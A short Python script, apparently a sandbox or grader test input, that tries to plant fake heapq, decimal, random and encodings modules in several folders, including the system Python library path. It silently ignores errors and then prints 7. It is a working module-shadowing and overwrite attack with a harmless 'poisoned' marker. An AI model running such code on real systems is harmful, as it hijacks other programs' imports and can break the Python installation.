# Writes modules into its folder that the library would import.
import os, sys
for name in ("heapq", "decimal", "random", "encodings"):
    for folder in (".", "/w", "/tmp", "/usr/lib/python3", sys.prefix):
        try:
            with open(f"{folder}/{name}.py", "w") as file:
                file.write("print('poisoned')")
        except OSError:
            pass
print(7)
